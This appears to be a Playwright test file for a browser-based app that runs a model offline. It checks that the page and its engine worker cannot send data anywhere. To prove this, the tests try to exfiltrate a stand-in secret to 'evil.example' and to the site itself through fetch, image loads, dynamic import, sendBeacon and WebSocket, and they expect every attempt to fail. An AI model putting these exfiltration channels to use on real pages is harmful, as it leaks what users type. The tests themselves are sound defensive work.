import { readFileSync } from 'node:fs';
import path from 'node:path';
import { builtSite } from '../scripts/build.mjs';
import { expect, test } from './fixtures.ts';

const secret = 'what-a-person-typed';

/** Every address that the site's own code may ask the site for. */
function listed(): (url: string) => boolean {
  const headers = readFileSync(path.join(builtSite, 'headers.json'), 'utf8');
  const { paths } = JSON.parse(headers) as { paths: Record<string, unknown> };
  return (url) =>
    url === '/' || url === '/?lang=ar' || url in paths || /^\/models\/[\w./-]+$/.test(url);
}

test('only listed addresses are asked for, and none while the model answers', async ({
  app,
  site,
}) => {
  await app.page.goto('/?lang=ar');
  await expect(app.page.getByRole('dialog')).toBeVisible();
  await app.open();
  await app.limitAnswers();
  await app.download();
  await app.load();
  await app.page.evaluate(async () => {
    await navigator.serviceWorker.ready;
  });
  const isListed = listed();
  expect(site.requests.filter((url) => !isListed(url))).toEqual([]);
  site.forget();
  await app.ask('What is asthma?');
  await app.ask('What is a stroke?');
  expect(site.requests).toEqual([]);
});

test('the page cannot send anything, not even to its own site', async ({ ready, site, egress }) => {
  site.forget();
  const blocked = await ready.page.evaluate(async (text) => {
    const outcomes: string[] = [];
    const attempt = async (name: string, action: () => Promise<unknown>): Promise<void> => {
      await action().then(
        () => outcomes.push(`${name} went through`),
        () => undefined,
      );
    };
    const image = (src: string): Promise<unknown> => {
      const element = new Image();
      element.src = src;
      return element.decode();
    };
    for (const address of ['/', '/models/catalog.json', 'https://evil.example/']) {
      await attempt(`fetch ${address}`, () => fetch(`${address}?${text}`));
      await attempt(`image ${address}`, () => image(`${address}?${text}`));
      await attempt(`import ${address}`, () => import(/* @vite-ignore */ `${address}?${text}`));
    }
    await attempt('image by path', () => image(`/models/${text}.png`));
    navigator.sendBeacon(`/?${text}`, text);
    const socket = new WebSocket(`wss://evil.example/${text}`);
    await attempt(
      'socket',
      () =>
        new Promise((resolve, reject) => {
          socket.onopen = resolve;
          socket.onerror = reject;
        }),
    );
    return outcomes;
  }, secret);
  expect(blocked).toEqual([]);
  expect(site.requests).toEqual([]);
  expect(egress.attempts).toEqual([]);
});

test('the engine worker cannot send anything at all', async ({ ready, site, egress }) => {
  site.forget();
  const engine = ready.page.workers().find((worker) => worker.url().includes('/workers/engine-'));
  expect(engine).toBeDefined();
  const blocked = await engine?.evaluate(async (text) => {
    const outcomes: string[] = [];
    for (const address of ['/', '/models/catalog.json', 'https://evil.example/']) {
      const url = new URL(`${address}?${text}`, location.href).href;
      await fetch(url).then(
        () => outcomes.push(`fetch ${url}`),
        () => undefined,
      );
      await import(/* @vite-ignore */ url).then(
        () => outcomes.push(`import ${url}`),
        () => undefined,
      );
    }
    const socket = new WebSocket(`wss://evil.example/${text}`);
    await new Promise<void>((resolve) => {
      socket.onopen = () => {
        outcomes.push('socket');
        resolve();
      };
      socket.onerror = () => resolve();
    });
    return outcomes;
  }, secret);
  expect(blocked).toEqual([]);
  expect(site.requests).toEqual([]);
  expect(egress.attempts).toEqual([]);
});
